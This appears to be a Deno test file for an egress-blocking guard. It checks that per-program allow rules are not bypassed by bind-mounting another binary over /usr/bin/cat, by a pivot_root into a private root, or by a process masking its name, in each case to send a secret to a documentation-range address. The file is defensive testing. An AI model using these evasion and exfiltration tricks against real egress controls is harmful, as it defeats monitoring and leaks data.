/** Another program's path: an entry is for the file, not for what leads to it. */
import assert from "node:assert/strict";
import { fileURLToPath } from "node:url";
import { runOrThrow } from "../../lab/command.ts";
import { Lab } from "../../lab/lab.ts";
import { Guarding } from "../guarding.ts";
import { Probe } from "../probing.ts";
import { assertLeaks, assertTight, NOBODY, SECRET } from "./attack.ts";

const SOURCE = fileURLToPath(new URL("./masked.c", import.meta.url));
/** What the entries are for; it sends nothing by itself. */
const CAT = "/usr/bin/cat";
const PORT = 443;
const SITES = { ipv4: "203.0.113.10", ipv6: "2001:db8:2::10" } as const;

type Programs = Readonly<Record<"probe" | "masked", string>>;

const WAYS: readonly {
  readonly name: string;
  readonly uid: number;
  /** The command line, which ends in the address to send to. */
  readonly line: (programs: Programs, address: string) => readonly string[];
}[] = [
  {
    name: "a file put over its path in a user namespace",
    uid: NOBODY,
    line: ({ probe }, address) => [
      ...["unshare", "-rm", "sh", "-ec", over(probe, address)],
    ],
  },
  {
    name: "a file put over its path in a mount namespace",
    uid: 0,
    line: ({ probe }, address) => [
      ...["unshare", "-m", "sh", "-ec", over(probe, address)],
    ],
  },
  {
    name: "a root directory of its own",
    uid: 0,
    line: ({ probe }, address) => [
      ...["unshare", "-m", "sh", "-ec", within(probe, address)],
    ],
  },
  {
    name: "the name that a process gives itself",
    uid: NOBODY,
    line: ({ masked }, address) => [
      masked,
      CAT,
      address,
      String(PORT),
      SECRET,
    ],
  },
  {
    name: "the name that a process's child gives it",
    uid: NOBODY,
    line: ({ masked }, address) => [
      ...[masked, CAT, address, String(PORT), SECRET, "helped"],
    ],
  },
];

for (const family of ["ipv4", "ipv6"] as const) {
  for (const { name, uid, line } of WAYS) {
    Deno.test(`block does not take over ${family} ${name} for an entry's program`, async () => {
      await using lab = await Lab.up();
      const address = SITES[family];
      const programs = await compile(lab);
      const attack = async () => {
        const command = line(programs, address);
        const { code, stderr } = await lab.in("run", command, { user: uid });
        assert.equal(code, 0, stderr);
      };
      await assertLeaks(lab, attack);
      const guard = await armFor(lab, [CAT, programs.probe]);
      await assertTight(lab, attack);
      const [event] = await guard.waitFor({
        kind: "connection",
        decision: "deny",
        enforced: true,
        why: "process_not_allowed",
      });
      // What it calls itself is told all the same.
      assert.match(event!.process?.exe ?? "", /\/cat$/);
      // The same file by its own path, and nothing around it: it may.
      const sent = await lab.in("run", [
        ...[programs.probe, "tcp", address, String(PORT), "mine"],
      ], { user: NOBODY });
      assert.match(sent.stdout, /"result":"ok"/);
    });
  }
}

/** A shell line that runs a program by the path of another. */
function over(program: string, address: string): string {
  return `mount --bind ${program} ${CAT}; ` +
    `exec ${CAT} tcp ${address} ${PORT} ${SECRET}`;
}

/** The same where nothing is at the path but that program. */
function within(program: string, address: string): string {
  return [
    "mount -t tmpfs none /mnt",
    "mkdir -p /mnt/usr/bin /mnt/old /mnt/lib /mnt/lib64",
    "touch /mnt/usr/bin/cat",
    "mount --rbind /lib /mnt/lib",
    "mount --rbind /lib64 /mnt/lib64",
    `mount --bind ${program} /mnt${CAT}`,
    "cd /mnt",
    "pivot_root . old",
    `exec ${CAT} tcp ${address} ${PORT} ${SECRET}`,
  ].join("; ");
}

async function compile(lab: Lab): Promise<Programs> {
  const { path: probe } = await Probe.compile(lab);
  const masked = `${lab.directory}/masked`;
  const strict = ["-std=gnu11", "-O1", "-Wall", "-Wextra", "-Werror"];
  await runOrThrow(["gcc", ...strict, "-o", masked, SOURCE]);
  return { probe, masked };
}

async function armFor(
  lab: Lab,
  programs: readonly string[],
): Promise<Guarding> {
  const path = `${lab.directory}/policy.yml`;
  const entries = programs.flatMap((program) =>
    Object.values(SITES).map((address) =>
      `  - { address: "${address}", port: ${PORT}, process: ${program} }`
    )
  );
  const lines = ["version: 1", "egress: block", "allow:", ...entries, ""];
  await Deno.writeTextFile(path, lines.join("\n"));
  return await Guarding.arm(lab, {
    egress: "block",
    more: ["--policy", path],
  });
}
